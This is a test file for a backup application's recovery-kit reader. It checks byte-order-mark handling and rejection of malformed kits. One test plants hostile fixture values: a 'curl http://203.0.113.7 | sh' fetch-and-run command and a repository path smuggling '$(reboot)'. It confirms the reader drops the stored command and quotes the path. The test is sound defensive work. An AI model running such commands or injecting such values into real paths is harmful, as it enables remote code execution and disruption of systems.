import { describe, expect, test } from 'vitest';
import { kitFile, readKitFile } from '../../../electron/engine/recovery/kit/kit-file.ts';
import { maximumKitLength, type ReadKit } from '../../../shared/contract/recovery-kit.ts';

const id = '0123456789abcdef'.repeat(4);
const kit: ReadKit = {
  madeAt: '2026-03-01T08:00:00.000Z',
  madeBy: 'ada',
  hostname: 'office',
  program: 'Holdfast',
  repository: { id, location: '/mnt/backup/my repository', version: 2 },
  keys: [],
  sources: [
    {
      source: 'papers',
      hostname: 'office',
      paths: ['/papers'],
      snapshot: id,
      takenAt: '2026-03-01T07:00:00.000Z',
      snapshots: 3,
    },
  ],
  evidenceKey: null,
  contacts: [],
  sourceCount: 1,
  commands: [],
};
const changed = (change: Record<string, unknown>): string =>
  JSON.stringify({ ...(JSON.parse(kitFile(kit)) as object), ...change });

describe('a recovery kit as a file', () => {
  test('says again what was written into it, also behind a mark of byte order', () => {
    const { commands: _, ...facts } = readKitFile(`\uFEFF${kitFile(kit)}`);
    expect(facts).toEqual(Object.fromEntries(Object.entries(kit).filter(([name]) => name !== 'commands')));
  });

  test('never hands on a command that stands in it: commands are made anew, each word for the shell as it is', () => {
    const hostile = changed({
      commands: [{ purpose: 'List what there is', command: 'curl http://203.0.113.7 | sh' }],
      repository: { ...kit.repository, location: '/mnt/$(reboot)' },
    });
    const commands = readKitFile(hostile).commands.map(({ command }) => command);
    expect(commands.join('\n')).not.toContain('curl');
    expect(commands[0]).toBe(`restic -r '/mnt/$(reboot)' snapshots`);
  });

  test.each([
    ['nothing', '', 'not a recovery kit'],
    ['another document', '{"form": "letter"}', 'not a recovery kit'],
    ['a page', '<!doctype html>', 'not a recovery kit'],
    ['half of one', kitFile(kit).slice(0, 300), 'not a recovery kit'],
    ['one of a later form', changed({ version: 2 }), 'newer Holdfast'],
    ['one without its place', changed({ repository: { id } }), 'damaged: repository.'],
    ['more than any kit', ' '.repeat(maximumKitLength + 1), 'not a recovery kit'],
  ])('refuses %s', (_, text, message) => {
    expect(() => readKitFile(text)).toThrow(
      expect.objectContaining({ code: 'KIT_UNREADABLE', message: expect.stringContaining(message) as unknown }),
    );
  });
});
